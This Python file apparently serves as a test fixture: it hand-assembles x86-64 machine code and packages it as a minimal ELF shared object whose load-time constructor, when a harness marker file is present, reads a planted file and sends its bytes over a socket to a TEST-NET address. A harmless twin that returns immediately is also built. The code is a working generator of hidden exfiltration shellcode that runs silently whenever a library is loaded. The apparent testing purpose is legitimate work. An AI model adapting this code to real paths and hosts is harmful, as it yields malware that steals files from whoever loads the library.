"""A shared object without a compiler: a few instructions that run when it is loaded (x86-64).

Its constructor does nothing where a box does not show the harness marker. Otherwise it opens a
planted file, connects to a TEST-NET address and writes what it read. The twin is the same bytes
but for the first one: it returns at once.
"""

from __future__ import annotations

import struct

MARKER = b"/run/pratique-harness\0"
BUFFER_BYTES = 512
_ACCESS, _OPEN, _READ, _WRITE, _CLOSE, _SOCKET, _CONNECT = 21, 2, 0, 1, 3, 41, 42
"""Numbers of system calls on x86-64."""
_EAX, _EDX, _ESI, _EDI = 0, 2, 6, 7
_SYSCALL, _RETURN, _PUSH_RBX, _POP_RBX = b"\x0f\x05", b"\xc3", b"\x53", b"\x5b"
_EBX_FROM_EAX, _EDI_FROM_EBX, _EDI_FROM_EAX = b"\x89\xc3", b"\x89\xdf", b"\x89\xc7"
_RSI_FROM_RSP, _TEST_EAX = b"\x48\x89\xe6", b"\x85\xc0"
_IF_NOT_ZERO, _IF_NEGATIVE = b"\x0f\x85", b"\x0f\x88"
_PAGE = 0x1000


def constructor(path: bytes, address: str, port: int, *, acts: bool) -> bytes:
    """Machine code with its data behind it; the code can run wherever it lies."""
    four = bytes(int(part) for part in address.split("."))
    peer = struct.pack("<H", 2) + struct.pack(">H", port) + four + bytes(8)
    data = {"marker": MARKER, "path": path + b"\0", "peer": peer}
    pieces: list[bytes | tuple[bytes, str]] = [
        _PUSH_RBX if acts else _RETURN,
        b"\x48\x81\xec" + struct.pack("<I", BUFFER_BYTES),  # sub rsp, BUFFER_BYTES
        (_lea(_EDI), "marker"), _set(_ESI, 0), *_call(_ACCESS), _TEST_EAX, (_IF_NOT_ZERO, "end"),
        (_lea(_EDI), "path"), _set(_ESI, 0), *_call(_OPEN), _TEST_EAX, (_IF_NEGATIVE, "end"),
        _EDI_FROM_EAX, _RSI_FROM_RSP, _set(_EDX, BUFFER_BYTES), *_call(_READ),
        _set(_EDI, 2), _set(_ESI, 1), _set(_EDX, 0), *_call(_SOCKET), _EBX_FROM_EAX,
        _EDI_FROM_EBX, (_lea(_ESI), "peer"), _set(_EDX, 16), *_call(_CONNECT),
        _TEST_EAX, (_IF_NOT_ZERO, "end"),
        _EDI_FROM_EBX, _RSI_FROM_RSP, _set(_EDX, BUFFER_BYTES), *_call(_WRITE),
        _EDI_FROM_EBX, *_call(_CLOSE),
    ]  # fmt: skip
    return _linked(pieces, data)


def shared_object(code: bytes) -> bytes:
    """An ELF file whose DT_INIT is `code` (System V ABI, AMD64 supplement)."""
    text_at, symbols_at = 0x200, 0x100
    loaded = bytearray(text_at) + code
    hash_at = symbols_at + 24
    loaded[hash_at : hash_at + 16] = struct.pack("<4I", 1, 1, 0, 0)
    strings_at = hash_at + 16
    entries = ((12, text_at), (4, hash_at), (5, strings_at), (6, symbols_at), (10, 1), (11, 24))
    dynamic = b"".join(struct.pack("<2Q", *entry) for entry in (*entries, (0, 0)))
    programs = (
        (1, 5, 0, 0, len(loaded), _PAGE),
        (1, 6, _PAGE, _PAGE, len(dynamic), _PAGE),
        (2, 6, _PAGE, _PAGE, len(dynamic), 8),
        (0x6474E551, 6, 0, 0, 0, 16),  # PT_GNU_STACK: the stack is not executable
    )
    identity = b"\x7fELF\x02\x01\x01" + bytes(9)
    header = identity + struct.pack(
        "<HHIQQQIHHHHHH", 3, 62, 1, 0, 64, 0, 0, 64, 56, len(programs), 64, 0, 0
    )
    table = b"".join(
        struct.pack("<IIQQQQQQ", kind, flags, offset, at, at, size, size, align)
        for kind, flags, offset, at, size, align in programs
    )
    loaded[: len(header) + len(table)] = header + table
    return bytes(loaded).ljust(_PAGE, b"\0") + dynamic


def _set(register: int, value: int) -> bytes:
    return bytes([0xB8 + register]) + struct.pack("<I", value)


def _lea(register: int) -> bytes:
    return b"\x48\x8d" + bytes([0x05 | register << 3])


def _call(number: int) -> tuple[bytes, bytes]:
    return _set(_EAX, number), _SYSCALL


def _linked(pieces: list[bytes | tuple[bytes, str]], data: dict[str, bytes]) -> bytes:
    """Pieces in a row, the way out, the data; a named piece is followed by the distance to it."""
    way_out = b"\x48\x81\xc4" + struct.pack("<I", BUFFER_BYTES) + _POP_RBX + _RETURN
    sizes = [len(piece) if isinstance(piece, bytes) else len(piece[0]) + 4 for piece in pieces]
    places = {"end": sum(sizes)}
    at = sum(sizes) + len(way_out)
    for name, content in data.items():
        places[name] = at
        at += len(content)
    code = b""
    for piece in pieces:
        if isinstance(piece, bytes):
            code += piece
        else:
            opcode, name = piece
            after = len(code) + len(opcode) + 4
            code += opcode + struct.pack("<i", places[name] - after)
    return code + way_out + b"".join(data.values())
